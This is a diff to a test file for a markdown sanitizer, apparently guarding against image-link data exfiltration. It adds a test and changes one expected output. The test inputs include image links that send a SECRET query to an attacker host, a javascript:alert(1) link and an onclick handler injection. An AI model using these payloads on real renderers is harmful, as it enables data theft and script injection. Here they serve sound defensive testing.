@@ -126,9 +126,15 @@ test("attack: what only a careless viewer follows", (t) => {
   t.end();
 });
 
+test("attack: what makes a link harmless makes no tag", (t) => {
+  const text = `]:<//${attacker}/?q=SECRET\n![x]< onclick=alert(1)>`;
+  t.strictSame(doneByMarkdown(defuse(text).text), []);
+  t.end();
+});
+
 test("who reads a link that was defused can tell what it was", (t) => {
   t.equal(defuse(`![x](${url}/?q=SECRET)`).text, `![x](hxxps://${attacker}/?q=SECRET)`);
   t.equal(defuse("[x](javascript:alert(1))").text, "[x](unsafe:javascript:alert(1))");
-  t.equal(defuse(`![x](//${attacker}/?q=SECRET)`).text, `![x](unsafe://${attacker}/?q=SECRET)`);
+  t.equal(defuse(`![x](//${attacker}/?q=SECRET)`).text, `![x](#unsafe://${attacker}/?q=SECRET)`);
   t.end();
 });
